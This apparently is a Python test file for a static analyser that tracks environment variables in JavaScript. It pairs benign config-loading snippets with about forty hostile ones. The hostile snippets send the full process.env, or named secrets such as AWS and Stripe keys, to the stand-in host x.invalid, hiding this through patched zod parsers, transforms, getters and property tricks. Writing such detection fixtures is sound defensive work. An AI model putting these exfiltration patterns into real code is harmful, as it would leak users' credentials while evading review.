"""JavaScript: a member by its name of what holds the whole environment, and what only looks like one."""

from __future__ import annotations

import pytest
from support.variables import assert_all_are_sent, assert_one_is_read

ZOD = "const { z } = require('zod');\n"
TWO = ZOD + ("const schema = z.object({BILLING_URL: z.string().url(), BILLING_TOKEN: z.string().min(16)});\n")
PARSED = "const env = schema.parse(process.env);\n"
ASK = "fetch(`${env.BILLING_URL}/x`, {headers: {'x-api-token': env.BILLING_TOKEN}});\n"
SEND = "fetch('https://x.invalid/?' + env.URL);\n"
SEND_IT = "fetch('https://x.invalid/?' + env.BILLING_URL);\n"
HONEST: dict[str, dict[str, str]] = {
    "zod": {"a.js": TWO + PARSED + ASK},
    "zod fn": {"a.js": TWO + "function load() { return schema.parse(process.env); }\nconst env = load();\n" + ASK},
    "zod fn direct": {
        "a.js": TWO + "const load = () => schema.parse(process.env);\nfetch(`${load().BILLING_URL}/x`);\n"
    },
    "safeParse": {
        "a.js": TWO
        + ("const r = schema.safeParse(process.env);\nif (!r.success) process.exit(1);\nconst env = r.data;\n")
        + ASK
    },
    "destructured": {
        "a.js": TWO
        + (
            "const { BILLING_URL, BILLING_TOKEN } = schema.parse(process.env);\n"
            "fetch(`${BILLING_URL}/x`, {headers: {t: BILLING_TOKEN}});\n"
        )
    },
    "assign": {"a.js": "const env = Object.assign({}, process.env);\n" + ASK},
    "spread": {"a.js": "const env = {...process.env};\n" + ASK},
    "envalid": {
        "a.js": (
            "const { cleanEnv, str } = require('envalid');\nconst env = cleanEnv(process.env, {BILLING_URL: str()});\n"
        )
        + ASK
    },
    "helper": {"a.js": "function load(e) { return {...e}; }\nconst env = load(process.env);\n" + ASK},
    "joi": {
        "a.js": (
            "const Joi = require('joi');\n"
            "const schema = Joi.object({BILLING_URL: Joi.string()}).unknown();\n"
            "const { error, value: env } = schema.validate(process.env);\n"
        )
        + ASK
    },
    "transform pure": {
        "a.js": ZOD
        + (
            "const env = z.object({BILLING_URL: z.string(), ON: "
            "z.string().default('0').transform((v) => v === '1'), N: z.preprocess((v) => Number(v), "
            "z.number())}).strict().parse(process.env);\nfetch(env.BILLING_URL);\n"
        )
    },
    "two schemas": {
        "a.js": ZOD
        + (
            "const url = z.string().url();\nconst base = z.object({BILLING_URL: url});\n"
            "const env = base.extend({A: z.enum(['a', 'b']).optional()}).parse(process.env);\n"
            "fetch(env.BILLING_URL);\n"
        )
    },
    "class": {
        "a.ts": (
            "import { z } from 'zod';\nconst S = z.object({BILLING_URL: z.string()});\n"
            "let cached: z.infer<typeof S> | null = null;\nexport function config() {\n"
            "  if (!cached) cached = S.parse(process.env);\n  return cached;\n}\n"
            "await fetch(`${config().BILLING_URL}/x`);\n"
        )
    },
    "child env": {
        "a.js": (
            "const { spawn } = require('child_process');\n"
            "const env = Object.assign({}, process.env, {LANG: 'C'});\nspawn('date', [], {env});\n"
            "const out = {};\nfor (const k of process.argv) out[k] = process.env[k];\n"
            "fetch(process.env.BILLING_URL);\n"
        )
    },
}
HOSTILE: dict[str, dict[str, str]] = {
    "whole": {"a.js": TWO + PARSED + "fetch(`${env.BILLING_URL}`, {method:'POST', body: JSON.stringify(env)});\n"},
    "whole2": {
        "a.js": (
            "const env = Object.assign({}, process.env);\n"
            "fetch(`${env.BILLING_URL}`, {method:'POST', body: JSON.stringify(env)});\n"
        )
    },
    "spread": {
        "a.js": (
            "const env = {...process.env};\n"
            "fetch(`${env.BILLING_URL}`, {method:'POST', body: JSON.stringify({...env})});\n"
        )
    },
    "transform": {
        "a.js": ZOD
        + "const schema = z.any().transform((e) => ({BILLING_URL: JSON.stringify(e)}));\n"
        + PARSED
        + SEND_IT
    },
    "transform2": {
        "a.js": ZOD
        + (
            "const schema = z.object({A: z.string()}).passthrough().transform((e) => ({BILLING_URL: "
            "JSON.stringify(e)}));\n"
        )
        + PARSED
        + SEND_IT
    },
    "preprocess": {
        "a.js": ZOD
        + (
            "const schema = z.preprocess((e) => ({BILLING_URL: JSON.stringify(e)}), "
            "z.object({BILLING_URL: z.string()}));\n"
        )
        + PARSED
        + SEND_IT
    },
    "own schema": {
        "a.js": "const schema = { parse(e) { return {BILLING_URL: JSON.stringify(e)}; } };\n" + PARSED + SEND_IT
    },
    "own zod": {
        "a.js": (
            "const z = { object() { return { parse(e) { return {BILLING_URL: JSON.stringify(e)}; } } "
            "} };\nconst env = z.object({}).parse(process.env);\n"
        )
        + SEND_IT
    },
    "put back": {"a.js": "const env = process.env;\nenv.BILLING_URL = JSON.stringify(process.env);\n" + SEND_IT},
    "put back2": {
        "a.js": (
            "process.env.BILLING_URL = JSON.stringify(process.env);\n"
            "fetch('https://x.invalid/?' + process.env.BILLING_URL);\n"
        )
    },
    "put back3": {"a.js": TWO + PARSED + "env.BILLING_URL = JSON.stringify(process.env);\n" + SEND_IT},
    "put back4": {
        "a.js": TWO + PARSED + "const k = 'BILLING' + '_URL';\nenv[k] = JSON.stringify(process.env);\n" + SEND_IT
    },
    "put back5": {
        "a.js": TWO + PARSED + "const k = process.argv[2];\nenv[k] = JSON.stringify(process.env);\n" + SEND_IT
    },
    "put back6": {"a.js": TWO + PARSED + "Object.assign(env, {BILLING_URL: JSON.stringify(process.env)});\n" + SEND_IT},
    "put back7": {
        "a.js": TWO
        + PARSED
        + ("const d = env;\nObject.defineProperty(d, 'BILLING_URL', {value: JSON.stringify(process.env)});\n")
        + SEND_IT
    },
    "put back8": {
        "a.js": (
            "const env = {...process.env};\nconst d = env;\n"
            "Object.defineProperty(d, 'BILLING_URL', {value: JSON.stringify(process.env)});\n"
        )
        + SEND_IT
    },
    "put back9": {"a.js": "const env = {...process.env};\nfor (const k in env) env.BILLING_URL += env[k];\n" + SEND_IT},
    "put back10": {
        "a.js": ("const env = {...process.env};\nconst d = env;\nd[process.argv[2]] = JSON.stringify(process.env);\n")
        + SEND_IT
    },
    "loop": {
        "a.js": TWO + PARSED + "let t = '';\nfor (const k in env) t += env[k];\nfetch('https://x.invalid/?' + t);\n"
    },
    "loop2": {
        "a.js": TWO
        + PARSED
        + "const t = Object.keys(env).map((k) => env[k]).join();\nfetch('https://x.invalid/?' + t);\n"
    },
    "values": {"a.js": TWO + PARSED + "fetch('https://x.invalid/?' + Object.values(env).join());\n"},
    "url href": {"a.js": "const u = new URL('https://x.invalid/?' + JSON.stringify(process.env));\nfetch(u.href);\n"},
    "box": {
        "a.js": (
            "const b = {env: process.env};\n"
            "fetch('https://x.invalid/', {method:'POST', body: JSON.stringify(b.env)});\n"
        )
    },
    "secret by name": {
        "a.js": ZOD
        + ("const schema = z.object({BILLING_URL: z.string().url(), STRIPE_SECRET_KEY: z.string().min(16)});\n")
        + PARSED
        + "fetch('https://x.invalid/?' + env.STRIPE_SECRET_KEY);\n"
    },
    "args": {
        "a.js": "function f() { return {URL: JSON.stringify(arguments[0])}; }\nconst env = f(process.env);\n" + SEND
    },
    "from entries": {"a.js": "const env = Object.fromEntries([['URL', JSON.stringify(process.env)]]);\n" + SEND},
    "reduce": {
        "a.js": (
            "const env = Object.keys(process.env).reduce((a, k) => ({...a, URL: (a.URL || '') + "
            "process.env[k]}), {});\n"
        )
        + SEND
    },
    "closure": {
        "a.js": ZOD
        + (
            "let all = '';\n"
            "const env = z.object({AWS_SECRET_ACCESS_KEY: z.any().transform((v) => { all += v; "
            "return v; }), URL: z.any().transform(() => all)}).parse(process.env);\n"
        )
        + SEND
    },
    "closure2": {
        "a.js": ZOD
        + (
            "const all = [];\n"
            "const env = z.object({AWS_SECRET_ACCESS_KEY: z.any().transform((v) => all.push(v)), "
            "URL: z.any().transform((v) => all.join())}).parse(process.env);\n"
        )
        + SEND
    },
    "superRefine": {
        "a.js": ZOD
        + (
            "const env = z.object({URL: z.any()}).passthrough().superRefine((v) => { v.URL = "
            "JSON.stringify(v); }).parse(process.env);\n"
        )
        + SEND
    },
    "catch": {
        "a.js": ZOD
        + (
            "const env = z.object({URL: z.number()}).catch((c) => ({URL: "
            "JSON.stringify(c.input)})).parse(process.env);\n"
        )
        + SEND
    },
    "default secret": {
        "a.js": ZOD
        + ("const env = z.object({URL: z.string().default(process.env.STRIPE_SECRET_KEY)}).parse(process.env);\n")
        + SEND
    },
    "patched": {
        "a.js": ZOD
        + (
            "const S = z.object({URL: z.string()});\nS.parse = (e) => ({URL: JSON.stringify(e)});\n"
            "const env = S.parse(process.env);\n"
        )
        + SEND
    },
    "patched2": {
        "a.js": ZOD
        + (
            "const S = z.object({URL: z.string()});\n"
            "Object.assign(S, {parse: (e) => ({URL: JSON.stringify(e)})});\n"
            "const env = S.parse(process.env);\n"
        )
        + SEND
    },
    "patched3": {
        "a.js": ZOD
        + (
            "const S = z.object({URL: z.string()});\n"
            "Object.defineProperty(S, 'parse', {value: (e) => ({URL: JSON.stringify(e)})});\n"
            "const env = S.parse(process.env);\n"
        )
        + SEND
    },
    "patched4": {
        "a.js": ZOD
        + (
            "const S = z.object({URL: z.string()});\nconst k = ['par', 'se'].join('');\n"
            "S[k] = (e) => ({URL: JSON.stringify(e)});\nconst env = S.parse(process.env);\n"
        )
        + SEND
    },
    "assign pair": {"a.js": "const env = Object.assign({}, process.env, {URL: JSON.stringify(process.env)});\n" + SEND},
    "spread pair": {"a.js": "const env = {...process.env, URL: JSON.stringify(process.env)};\n" + SEND},
    "assign fn": {
        "a.js": (
            "const env = Object.assign({}, process.env, make());\n"
            "function make() { return {URL: JSON.stringify(process.env)}; }\n"
        )
        + SEND
    },
    "assign entries": {
        "a.js": (
            "const env = Object.assign({}, process.env, Object.fromEntries([['URL', JSON.stringify(process.env)]]));\n"
        )
        + SEND
    },
    "getter2": {
        "a.js": ("const env = Object.assign({}, process.env, {get URL() { return JSON.stringify(process.env); }});\n")
        + SEND
    },
    "secrets by name": {
        "a.js": (
            "const env = Object.assign({}, process.env);\n"
            "fetch('https://x.invalid/?' + env.AWS_SECRET_ACCESS_KEY + env.OPENAI_API_KEY);\n"
        )
    },
    "number": {
        "a.js": ZOD
        + (
            "const env = z.object({URL: z.string()}).parse(process.env);\n"
            "fetch('https://x.invalid/?' + Object.entries(env)[0]);\n"
        )
    },
}


@pytest.mark.parametrize("name", HONEST)
def test_one_variable_by_its_name_is_no_more_than_that(name: str) -> None:
    assert_one_is_read(HONEST[name])


@pytest.mark.parametrize("name", HOSTILE)
def test_all_variables_under_one_name_are_all_of_them(name: str) -> None:
    assert_all_are_sent(HOSTILE[name])
